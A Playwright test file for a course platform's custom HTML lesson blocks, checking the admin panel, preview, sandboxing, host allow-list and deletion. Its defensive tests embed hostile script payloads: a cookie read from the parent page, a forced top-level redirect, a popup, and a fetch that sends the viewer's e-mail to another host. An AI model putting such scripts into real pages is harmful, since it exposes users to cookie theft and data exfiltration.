import { expect, test, type Page } from '@playwright/test';
import { seedKeys, stableId } from '../lib/seed/ids';
import { chooseOption, demoUrl, login, openEditPanel, signIn } from './helpers';
import { adminApi } from './support/admin-api';

// HTML personalizado (SPEC 2.10): the admin builds a lesson block through the panel (validation, the
// CodeMirror editor, the preview, Salvar), the student sees it on that lesson only, at its content's
// height; a hostile block cannot read the parent's cookies, navigate the page or open a popup, in the
// student's page and in the preview alike; then the blocks are deleted (Não, then Sim). A block reaches no
// other host unless its allowed hosts, edited in the panel, name it (ADR 0242).

const tenantId = stableId(seedKeys.tenant('demo'));
const photo = 'fotografia-com-o-celular';
const lessonUrl = (m: number, l: number) =>
  `${demoUrl}/curso/${tenantId}/aula/${stableId(seedKeys.lesson('demo', photo, m, l))}`;

const TITLE = 'Boas-vindas à aula de luz natural';
// The script writes into its own body and adds a nested frame, as widget embeds do.
const BLOCK =
  '<p id="who">{{nome}}</p><script>var d=document.createElement("div");d.id="written";d.style.height="320px";d.textContent="escrito pelo script";document.body.appendChild(d);' +
  'var f=document.createElement("iframe");f.id="nested";f.srcdoc="<p id=inner>quadro aninhado</p>";document.body.appendChild(f);</script>';
const HOSTILE_TITLE = 'Bloco hostil';
const HOSTILE =
  '<pre id="cookie">pending</pre><pre id="top">pending</pre><pre id="popup">pending</pre><script>' +
  'function put(i,v){document.getElementById(i).textContent=v}' +
  'try{put("cookie","read:"+parent.document.cookie)}catch(e){put("cookie","blocked:"+e.name)}' +
  'try{top.location="https://example.com/stolen";put("top","attempted")}catch(e){put("top","blocked:"+e.name)}' +
  'try{var w=window.open("https://example.com/popup");put("popup",w?"opened":"blocked:null")}catch(e){put("popup","blocked:"+e.name)}' +
  '</script>';

// A block that tries to send the viewer's e-mail to another origin, and says what became of it: a
// CSP refusal is a securitypolicyviolation event; an allowed call to a port nobody listens on just fails.
const NET_TITLE = 'Bloco de rede';
const NET =
  '<pre id="net">pending</pre><script>var out=document.getElementById("net");' +
  'document.addEventListener("securitypolicyviolation",function(e){if(e.violatedDirective.indexOf("connect-src")===0)out.textContent="blocked:"+e.blockedURI});' +
  'fetch("https://outra.localhost/coleta?e={{email}}",{mode:"no-cors"}).then(function(){out.textContent="sent"},' +
  'function(){setTimeout(function(){if(out.textContent==="pending")out.textContent="failed"},500)});</script>';

async function removeBlocks() {
  const api = await adminApi();
  try {
    const list = await api.call('GET', '/api/platform/auth/custom-html?page=1');
    expect(list.status).toBe(200);
    for (const b of list.body.data as { id: string; title: string }[])
      if ([TITLE, HOSTILE_TITLE, NET_TITLE].includes(b.title))
        expect((await api.call('DELETE', `/api/platform/auth/custom-html/${b.id}`)).status).toBe(200);
  } finally {
    await api.dispose();
  }
}

const openPanel = (page: Page) => openEditPanel(page, 'custom-html');

/** The hostile block's three attempts failed, asserted from the parent page. */
async function expectContained(page: Page, frameTestId: string, urlBefore: string) {
  const frame = page.frameLocator(`[data-testid="${frameTestId}"]`);
  await expect(frame.locator('#cookie')).toHaveText(/^blocked:/);
  await expect(frame.locator('#cookie')).not.toContainText('s3cret');
  // The sandbox refuses the top navigation at the assignment (it throws), so no navigation can be on its
  // way: the page's URL is checked once the script has run to its end (#popup is written last).
  await expect(frame.locator('#top')).toHaveText(/^blocked:/);
  await expect(frame.locator('#popup')).toHaveText('blocked:null');
  expect(page.url()).toBe(urlBefore);
}

test.describe('HTML personalizado', () => {
  // The narrow-screen test edits the block the first test made.
  test.describe.configure({ mode: 'serial', timeout: 180_000 });
  // The blocks of this spec, from an interrupted earlier run or from this one, go through the editor API
  // (other specs audit and photograph the same lesson).
  test.beforeAll(removeBlocks);
  test.afterAll(removeBlocks);

  test('the admin adds a lesson block through the panel; the student sees it on that lesson only', async ({
    page,
    browser,
  }) => {
    await login(page, 'admin@demo.local');
    const panel = await openPanel(page);
    await expect(panel.getByTestId('custom-html-empty')).toContainText(
      'Parece que você ainda não possui nenhum HTML personalizado criado, crie um agora mesmo',
    );
    await panel.getByTestId('custom-html-new').click();
    const dialog = page.getByTestId('custom-html-dialog');
    await expect(dialog.getByRole('heading', { name: 'Novo' })).toBeVisible();

    // Section 5 messages, verbatim, before anything is sent.
    await dialog.getByTestId('custom-html-save').click();
    const errors = dialog.getByTestId('custom-html-field-error');
    await expect(errors).toContainText([
      'O título é obrigatório',
      'Selecione a página',
      'Adicione o HTML personalizado',
    ]);

    await dialog.getByTestId('custom-html-title').fill(TITLE);
    await expect(dialog.getByTestId('custom-html-page')).toHaveText('Selecione a página');
    // 'Produto' is not offered: there is no product page to show a block on (ADR 0265).
    await dialog.getByTestId('custom-html-page').click();
    await expect(page.getByRole('option', { name: 'Perfil', exact: true })).toBeVisible();
    await expect(page.getByRole('option', { name: 'Produto', exact: true })).toHaveCount(0);
    await page.keyboard.press('Escape');
    await chooseOption(page, dialog.getByTestId('custom-html-page'), 'Aula');
    await expect(dialog.getByTestId('custom-html-module')).toHaveCount(0);
    await chooseOption(page, dialog.getByTestId('custom-html-course'), 'Fotografia com o Celular');
    await chooseOption(page, dialog.getByTestId('custom-html-module'), 'Primeiros passos');
    await chooseOption(page, dialog.getByTestId('custom-html-lesson'), 'Luz natural: a sua melhor amiga');
    const code = dialog.locator('[data-testid="custom-html-code"] .cm-content');
    await code.fill(BLOCK);
    await expect(dialog.locator('[data-testid="custom-html-code"] .cm-lineNumbers')).toBeVisible();

    // The preview renders through the students' document: the script ran, the merge tag is the viewer's.
    await dialog.getByTestId('custom-html-preview-open').click();
    const preview = page.getByTestId('custom-html-preview');
    await expect(preview.getByRole('heading', { name: 'Visualização HTML personalizado' })).toBeVisible();
    const pframe = page.frameLocator('[data-testid="custom-html-preview-frame"]');
    await expect(pframe.locator('#written')).toHaveText('escrito pelo script');
    await expect(pframe.frameLocator('#nested').locator('#inner')).toHaveText('quadro aninhado');
    await expect(pframe.locator('#who')).toHaveText('Ana Administradora');
    await expect
      .poll(async () =>
        Number(await preview.getByTestId('custom-html-preview-frame').getAttribute('data-height')),
      )
      .toBeGreaterThanOrEqual(320);
    await page.keyboard.press('Escape');
    await expect(preview).toBeHidden();

    await dialog.getByTestId('custom-html-save').click();
    await expect(page.getByText('HTML personalizado criado com sucesso')).toBeVisible();
    await expect(dialog).toBeHidden();
    const card = panel.getByTestId('custom-html-card');
    await expect(card).toHaveCount(1);
    await expect(card.getByTestId('custom-html-card-title')).toHaveText(`${TITLE.slice(0, 25)}…`);
    await expect(card.getByTestId('custom-html-card-page')).toHaveText('Aula');
    await card.getByTestId('custom-html-card-toggle').click();
    await expect(card.getByTestId('custom-html-card-title')).toHaveText(TITLE);

    // Novo again starts from an empty form (the modal reset after saving).
    await panel.getByTestId('custom-html-new').click();
    await expect(dialog.getByTestId('custom-html-title')).toHaveValue('');
    await page.keyboard.press('Escape');

    // The student: on that lesson, sized to its content; not on the next one.
    const ctx = await browser.newContext({ locale: 'pt-BR' });
    const student = await ctx.newPage();
    await signIn(student, 'aluno@demo.local');
    await student.goto(lessonUrl(1, 2));
    const frames = student.getByTestId('custom-html-blocks').locator('iframe');
    await expect(frames).toHaveCount(1);
    await expect(frames.first()).toHaveAttribute('sandbox', 'allow-scripts allow-forms');
    const sframe = student.frameLocator('[data-testid="custom-html-blocks"] iframe');
    await expect(sframe.locator('#written')).toHaveText('escrito pelo script');
    await expect(sframe.frameLocator('#nested').locator('#inner')).toHaveText('quadro aninhado');
    await expect(sframe.locator('#who')).toHaveText('Bruno Aluno');
    await expect
      .poll(async () => (await frames.first().boundingBox())?.height ?? 0)
      .toBeGreaterThanOrEqual(320);
    await student.goto(lessonUrl(1, 3));
    await expect(student.getByTestId('lesson-page')).toBeVisible();
    await expect(student.getByTestId('custom-html-blocks')).toHaveCount(0);
    await ctx.close();
  });

  test('a hostile block cannot read cookies, navigate the page or open a popup, nor can its preview', async ({
    page,
    context,
  }) => {
    await context.addCookies([{ name: 'visible_secret', value: 's3cret', url: demoUrl }]);
    await signIn(page, 'admin@demo.local');
    const lessonId = stableId(seedKeys.lesson('demo', photo, 1, 4));
    const created = await page.request.post('/api/platform/auth/custom-html', {
      data: {
        title: HOSTILE_TITLE,
        html: HOSTILE,
        page: 'lesson',
        course_id: stableId(seedKeys.course('demo', photo)),
        module_id: stableId(seedKeys.module('demo', photo, 1)),
        lesson_id: lessonId,
      },
    });
    expect(created.status()).toBe(201);

    let popups = 0;
    context.on('page', () => popups++);
    page.on('popup', () => popups++);

    // As students get it.
    const url = lessonUrl(1, 4);
    await page.goto(url);
    const frame = page.locator('[data-testid="custom-html-blocks"] iframe');
    await expect(frame).toHaveCount(1);
    await expectContained(page, await frame.getAttribute('data-testid').then((id) => id!), url);

    // The preview of the same HTML, opened from Editar, is contained the same way.
    await page.goto(`${demoUrl}/homepage`);
    const panel = await openPanel(page);
    const card = panel.getByTestId('custom-html-card').filter({ hasText: HOSTILE_TITLE });
    await card.getByTestId('custom-html-edit').click();
    const dialog = page.getByTestId('custom-html-dialog');
    await expect(dialog.getByRole('heading', { name: 'Editar' })).toBeVisible();
    await expect(dialog.getByTestId('custom-html-title')).toHaveValue(HOSTILE_TITLE);
    await expect(dialog.locator('[data-testid="custom-html-code"] .cm-content')).toContainText(
      'parent.document',
    );
    await dialog.getByTestId('custom-html-preview-open').click();
    await expectContained(page, 'custom-html-preview-frame', `${demoUrl}/homepage`);
    await page.keyboard.press('Escape');
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
    expect(popups).toBe(0);

    // Delete: Não keeps it, 'Sim, desejo excluir' removes it; the lesson no longer shows it.
    await card.getByTestId('custom-html-delete').click();
    const confirm = page.getByTestId('custom-html-delete-dialog');
    await confirm.getByTestId('custom-html-delete-no').click();
    await expect(confirm).toBeHidden();
    await expect(card).toHaveCount(1);
    await card.getByTestId('custom-html-delete').click();
    await confirm.getByTestId('custom-html-delete-yes').click();
    await expect(page.getByText('HTML personalizado excluído com sucesso')).toBeVisible();
    await expect(card).toHaveCount(0);
    await page.goto(url);
    await expect(page.getByTestId('lesson-page')).toBeVisible();
    await expect(page.getByTestId('custom-html-blocks')).toHaveCount(0);
  });

  test('a block reaches no other host by default; the hosts saved in the panel are allowed', async ({
    page,
  }) => {
    await signIn(page, 'admin@demo.local');
    const created = await page.request.post('/api/platform/auth/custom-html', {
      data: {
        title: NET_TITLE,
        html: NET,
        page: 'lesson',
        course_id: stableId(seedKeys.course('demo', photo)),
        module_id: stableId(seedKeys.module('demo', photo, 1)),
        lesson_id: stableId(seedKeys.lesson('demo', photo, 1, 4)),
      },
    });
    expect(created.status()).toBe(201);
    const url = lessonUrl(1, 4);
    const net = page.frameLocator('[data-testid="custom-html-blocks"] iframe').locator('#net');
    await page.goto(url);
    await expect(net).toHaveText(/^blocked:https:\/\/outra\.localhost/);

    // The panel: a URL is not a host (the form says so before sending); a host name saves.
    await page.goto(`${demoUrl}/homepage`);
    const panel = await openPanel(page);
    const card = panel.getByTestId('custom-html-card').filter({ hasText: NET_TITLE });
    await card.getByTestId('custom-html-edit').click();
    const dialog = page.getByTestId('custom-html-dialog');
    const hosts = dialog.getByTestId('custom-html-allowed-hosts');
    await expect(hosts).toHaveValue('');
    await hosts.fill('https://outra.localhost/coleta');
    const hostError = 'Informe apenas nomes de host, como api.exemplo.com (sem https://, porta ou caminho)';
    await dialog.getByTestId('custom-html-preview-open').click();
    await expect(dialog.getByTestId('custom-html-field-error')).toHaveText(hostError);
    await expect(page.getByTestId('custom-html-preview')).toHaveCount(0);
    await dialog.getByTestId('custom-html-save').click();
    await expect(dialog.getByTestId('custom-html-field-error')).toHaveText(hostError);
    await hosts.fill('outra.localhost');
    await dialog.getByTestId('custom-html-save').click();
    await expect(page.getByText('HTML personalizado editado com sucesso')).toBeVisible();
    await expect(dialog).toBeHidden();
    await card.getByTestId('custom-html-card-toggle').click();
    await expect(card.getByTestId('custom-html-card-hosts')).toHaveText('Hosts permitidos: outra.localhost');
    await card.getByTestId('custom-html-edit').click();
    await expect(hosts).toHaveValue('outra.localhost');
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();

    // Allowed now: the call is made (and fails, nothing listens there), no policy refuses it.
    await page.goto(url);
    await expect(net).toHaveText('failed', { timeout: 20_000 });
  });

  test('at 390 px the panel, the modal and the student frame fit the screen', async ({ page, browser }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await login(page, 'admin@demo.local');
    const panel = await openPanel(page);
    const card = panel.getByTestId('custom-html-card').filter({ hasText: TITLE.slice(0, 25) });
    await card.getByTestId('custom-html-edit').focus();
    await page.keyboard.press('Enter');
    const dialog = page.getByTestId('custom-html-dialog');
    await expect(dialog.getByTestId('custom-html-title')).toHaveValue(TITLE);
    await expect(dialog.getByTestId('custom-html-lesson')).toHaveText('Luz natural: a sua melhor amiga');
    const box = await dialog.boundingBox();
    expect(box!.x).toBeGreaterThanOrEqual(0);
    expect(box!.x + box!.width).toBeLessThanOrEqual(390);
    // Editing keeps a version per save; the history lists them.
    await dialog.getByTestId('custom-html-title').fill(`${TITLE}!`);
    await dialog.getByTestId('custom-html-save').click();
    await expect(page.getByText('HTML personalizado editado com sucesso')).toBeVisible();
    await expect(dialog).toBeHidden();
    await card.getByTestId('custom-html-edit').click();
    await dialog.getByTestId('custom-html-versions').locator('summary').click();
    await expect(dialog.getByTestId('custom-html-version')).toHaveCount(2);
    await dialog.getByTestId('custom-html-version-restore').click();
    await expect(page.getByText('Versão restaurada com sucesso')).toBeVisible();
    await expect(dialog.getByTestId('custom-html-title')).toHaveValue(TITLE);
    await page.keyboard.press('Escape');

    const ctx = await browser.newContext({ locale: 'pt-BR', viewport: { width: 390, height: 844 } });
    const student = await ctx.newPage();
    await signIn(student, 'aluno@demo.local');
    await student.goto(lessonUrl(1, 2));
    const frame = student.getByTestId('custom-html-blocks').locator('iframe');
    await expect(
      student.frameLocator('[data-testid="custom-html-blocks"] iframe').locator('#written'),
    ).toBeVisible();
    const fbox = await frame.boundingBox();
    expect(fbox!.x + fbox!.width).toBeLessThanOrEqual(390);
    const overflow = await student.evaluate(() => document.documentElement.scrollWidth > window.innerWidth);
    expect(overflow, 'no horizontal scroll at 390px').toBe(false);
    await ctx.close();
  });
});
